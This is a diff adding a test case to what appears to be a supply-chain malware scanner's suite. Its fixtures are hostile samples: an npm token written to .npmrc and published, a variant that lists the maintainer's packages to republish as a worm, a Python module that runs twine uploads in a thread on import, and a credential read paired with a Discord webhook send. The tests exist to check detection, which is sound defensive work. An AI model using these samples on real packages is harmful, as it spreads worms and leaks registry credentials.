@@ -195,6 +195,25 @@ describe('exfiltration and attack chains', () => {
     expect(js(npmrc).chains).toEqual([]);
     expect(js("const https = require('https'); const h = require('os').hostname();\nhttps.request({ host: 'x.example', path: '/' + h }).end();").chains).toEqual([]);
   });
+  it('publishing with a registry token chains on install or import, and in code the user runs only when it lists the owner\'s packages to republish', () => {
+    const release = "const fs = require('fs');\nconst { execSync } = require('child_process');\nfunction release(dir) {\n  const token = process.env.NPM_TOKEN;\n  fs.writeFileSync(dir + '/.npmrc', '//registry.npmjs.org/:_authToken=' + token);\n  execSync('npm publish --access public', { cwd: dir });\n}\nmodule.exports = { release };\n";
+    // a release command: the function runs when its user calls it
+    expect(js(release).chains).toEqual([]);
+    // the same function called on load, or run by an install hook, spreads
+    expect(js(`${release}release(process.cwd());\n`).chains?.length).toBe(1);
+    expect(js(release, { postinstall: 'node index.js' }).chains?.[0]?.severity).toBe('critical');
+    // listing the packages the token's owner maintains, to publish each, is a worm even in code the user runs
+    const worm = release.replace('function release(dir) {', "async function release(dir) {\n  const r = await fetch('https://registry.npmjs.org/-/v1/search?text=maintainer:' + process.env.USER);");
+    const out = js(worm);
+    expect(codes(out)).toContain('lists_maintainer_packages');
+    expect(out.chains?.[0]?.steps.map((s) => s.code)).toEqual(expect.arrayContaining(['lists_maintainer_packages', 'publishes_packages']));
+    // a Python module imported by the package that starts the spread in a thread on import, through twine's argument list
+    const spread = 'import os, subprocess, sys, threading\n\ndef _spread():\n    pw = os.environ.get("TWINE_PASSWORD")\n    subprocess.run([sys.executable, "-m", "twine", "upload", "dist/*"], env=dict(os.environ, TWINE_PASSWORD=pw))\n\nthreading.Thread(target=_spread, daemon=True).start()\n';
+    const pyOut = py({ 'pkg/__init__.py': 'from . import _compat\n', 'pkg/_compat.py': spread });
+    expect(codes(pyOut)).toContain('publishes_packages');
+    expect(pyOut.chains?.length).toBe(1);
+    expect(py({ 'pkg/__init__.py': 'from . import _compat\n', 'pkg/_compat.py': spread.replace('threading.Thread(target=_spread, daemon=True).start()\n', '') }).chains).toEqual([]);
+  });
   it('a credential read and a webhook far apart in one file (a bundle\'s unrelated modules) form no chain; close together they do', () => {
     const read = "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n";
     const send = "fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: x });\n";
